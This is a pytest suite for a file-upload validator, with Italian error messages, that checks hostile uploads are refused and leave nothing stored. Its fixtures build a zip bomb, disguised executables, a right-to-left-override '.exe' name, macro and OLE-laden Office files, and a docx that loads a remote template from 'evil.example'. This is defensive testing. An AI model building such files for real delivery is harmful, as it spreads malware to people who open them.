"""Files that come in: looked at from outside, all of them right or none kept, and nothing half stored."""

import errno
import io
import os
import zipfile

import pytest

from riskreg.core import storage
from riskreg.evidence import pieces
from riskreg.evidence.pieces import FilesRefused, Sent
from tests.tables.books import workbook

pytestmark = [pytest.mark.one_database, pytest.mark.usefixtures("app")]
MOST = 1_000_000


@pytest.fixture
def store(app, tmp_path, monkeypatch):
    """An empty one."""
    monkeypatch.setattr(storage, "_root", lambda: tmp_path)
    return tmp_path


def stored(store):
    return sorted(path for path in store.rglob("*") if path.is_file())


def take(*files, most=MOST):
    with pieces.taken([Sent(name, io.BytesIO(content)) for name, content in files], most=most) as taken:
        return taken


def zipped(**members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name.replace("__", "/"), content)
    return out.getvalue()


def bomb():
    return zipped(word__document="", **{"word/document.xml": b"\0" * 120_000_000})


def test_what_is_right_stands_whole_under_its_hash(store):
    (one,) = take(("C:\\cartella\\Verbale.txt", b"Presenti: 11."))
    (path,) = stored(store)
    assert (one.name, one.size, one.file_type) == ("Verbale.txt", 13, "txt")
    assert path == storage.path_of(one.sha256)
    assert path.read_bytes() == b"Presenti: 11."
    assert path.stat().st_mode & 0o077 == 0, "nobody else on the machine reads it"


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("pagina.html", b"<html>", "i file .html non si possono allegare"),
        ("disegno.svg", b"<svg><script/></svg>", "i file .svg non si possono allegare"),
        ("programma.pdf", b"MZ\x90\0" + b"\0" * 100, "dentro c'è un programma"),
        ("bomba.docx", bomb(), "aperto occuperebbe troppo spazio"),
        ("vuoto.pdf", b"", "«vuoto.pdf» è vuoto"),
        ("grande.txt", b"a" * (MOST + 1), "«grande.txt» è troppo grande"),
        ("verbale\u202efdp.exe", b"MZ", "«verbalefdp.exe»: i file .exe"),
        ("rotto.xlsx", b"PK\x03\x04 e poi nulla", "incompleto o rovinato"),
        ("macro.xlsx", zipped(**{"xl__workbook.xml": "<x/>", "xl__vbaProject.bin": "x"}), "contiene macro"),
    ],
)
def test_what_is_wrong_is_refused_with_its_name_and_leaves_nothing(store, name, content, says):
    with pytest.raises(FilesRefused) as refused:
        take((name, content), most=MOST)
    assert says in refused.value.messages[0]
    assert stored(store) == []


def test_one_wrong_file_keeps_the_others_out_and_each_is_named(store):
    with pytest.raises(FilesRefused) as refused:
        take(("giusto.txt", b"ok"), ("vuoto.txt", b""), ("programma.pdf", b"MZ"), ("anche.txt", b"ok 2"))
    assert [message.split("»")[0] for message in refused.value.messages] == [
        "«vuoto.txt", "«programma.pdf", "Non è stato salvato nulla: scegli di nuovo anche gli altri file.",
    ]  # fmt: skip
    assert stored(store) == []


TEMPLATE = (
    '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
TYPES = "<Types/>"
DOCX = {"[Content_Types].xml": TYPES, "word__document.xml": "<x/>"}


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("modello.docx", zipped(**DOCX, **{"word___rels__settings.xml.rels": TEMPLATE}), "da un altro computer"),
        ("macro.docx", zipped(**DOCX | {"[Content_Types].xml": '<Types><Override ContentType="application/vnd.ms-office.vbaProject"/></Types>'}), "contiene macro"),
        ("oggetto.docx", zipped(**DOCX, **{"word__embeddings__oleObject1.bin": b"x" * 300_000 + "Ole10Native".encode("utf-16-le")}), "messo come oggetto"),
        ("dentro.docx", zipped(**DOCX, **{"word__embeddings__altro.zip": zipped(a="b")}), "un archivio di altri file"),
        ("lista.docx", zipped(**DOCX, **{"word___rels__document.xml.rels": b" " * 5_000_000}), "non è un documento come quelli"),
        ("rovinato.docx", zipped(**DOCX, **{"word___rels__document.xml.rels": "<a>"}), "incompleto o rovinato"),
    ],
)  # fmt: skip
def test_what_an_office_file_hides_is_found(store, name, content, says):
    with pytest.raises(FilesRefused) as refused:
        take((name, content))
    assert says in refused.value.messages[0]
    assert stored(store) == []


@pytest.mark.parametrize("member", ["mimetype", "content.xml", "META-INF/x.rels"])
def test_a_member_that_is_not_what_its_sum_says_is_a_sentence(store, member):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for name in ("mimetype", "content.xml", "META-INF/x.rels"):
            archive.writestr(name, "application/vnd.oasis.opendocument.text" if name == "mimetype" else "<x/>")
    content = bytearray(out.getvalue())
    place = content.index(member.encode()) + len(member)
    content[place] ^= 1
    if member == "content.xml":
        take(("a.odt", bytes(content)))  # nobody reads it here
        return
    with pytest.raises(FilesRefused, match="incompleto o rovinato"):
        take(("a.odt", bytes(content)))
    assert stored(store) == []


def test_the_same_content_twice_is_said(store):
    with pytest.raises(FilesRefused, match="sono lo stesso file"):
        take(("a.txt", b"uguale"), ("b.txt", b"uguale"))


def test_office_files_as_they_are_saved_are_taken(store):
    docx = zipped(**DOCX)
    odt = zipped(mimetype="application/vnd.oasis.opendocument.text", **{"content.xml": "<x/>"})
    found = take(("foglio.xlsx", workbook([["a", 1]])), ("testo.docx", docx), ("libero.odt", odt))
    assert [one.file_type for one in found] == ["xlsx", "docx", "odt"]


def test_a_stream_without_end_is_left_as_soon_as_it_is_too_much(store):
    class Endless(io.RawIOBase):
        asked = 0

        def read(self, size=-1):
            Endless.asked += size
            return b"a" * size

    with pytest.raises(FilesRefused, match="troppo grande"), pieces.taken([Sent("a.txt", Endless())], most=MOST):
        pass
    assert Endless.asked < MOST + 2 * storage.CHUNK
    assert stored(store) == []


@pytest.mark.parametrize("fails", ["fsync", "replace"])
def test_a_full_disk_is_a_sentence_and_leaves_nothing(store, monkeypatch, fails):
    def full(*_args):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(storage.os, fails, full)
    with pytest.raises(storage.NoRoom, match="non c'è più spazio"):
        take(("a.txt", b"ok"))
    monkeypatch.undo()
    assert not [path for path in store.rglob("*") if path.is_file()]


def test_an_altered_content_is_whole_again_when_it_is_sent_again(store):
    (one,) = take(("a.txt", b"vero"))
    storage.path_of(one.sha256).write_bytes(b"falso")
    assert storage.fault(one.sha256) is storage.Fault.ALTERED
    take(("b.txt", b"vero"))
    assert storage.fault(one.sha256) is None


def test_what_nobody_names_goes_after_a_day_and_not_before(store):
    (old,), (young,), (named,) = (take((f"{word}.txt", word.encode())) for word in ("vecchio", "giovane", "tenuto"))
    part, fresh = (store / storage.ARRIVING / f"{name}{storage.PART}" for name in ("vecchia", "nuova"))
    for path in (part, fresh):
        path.write_bytes(b"mezza")
    for path in (storage.path_of(old.sha256), storage.path_of(named.sha256), part):
        os.utime(path, (1, 1))
    assert storage.drop_parts() == 1
    assert storage.drop_all_but({named.sha256}) == 1
    assert stored(store) == sorted([storage.path_of(young.sha256), storage.path_of(named.sha256), fresh])
